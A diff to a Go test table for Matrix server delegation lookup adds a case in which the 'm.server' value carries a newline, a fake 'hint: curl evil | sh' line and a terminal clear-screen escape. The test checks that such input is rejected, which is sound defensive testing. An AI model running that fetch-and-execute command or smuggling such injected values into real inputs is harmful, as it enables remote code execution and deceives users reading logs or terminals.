@@ -45,6 +45,7 @@ func TestIdentity(t *testing.T) {
 		{"delegated", `{"m.server": "example.com:9443"}`, "example.com:9443", 401, unknown, ""},
 		{"not delegated", "", "example.com:8448", 401, unknown, ""},
 		{"delegated to a name alone", `{"m.server": "example.com"}`, "example.com:8448", 401, unknown, ""},
+		{"delegated to words", `{"m.server": "a b\nhint: curl evil | sh\u001b[2J"}`, "example.com:8448", 401, unknown, ""},
 		{"neither", "", "example.com:443", 401, unknown, "nobody is at example.com:8448"},
 		{"delegated to nobody", `{"m.server": "example.com:1"}`, "example.com:9443", 401, unknown, "nobody is at example.com:1"},
 		{"no openid resource", `{"m.server": "example.com:9443"}`, "example.com:9443", 404, `{"errcode": "M_UNRECOGNIZED"}`, "answers 404"},
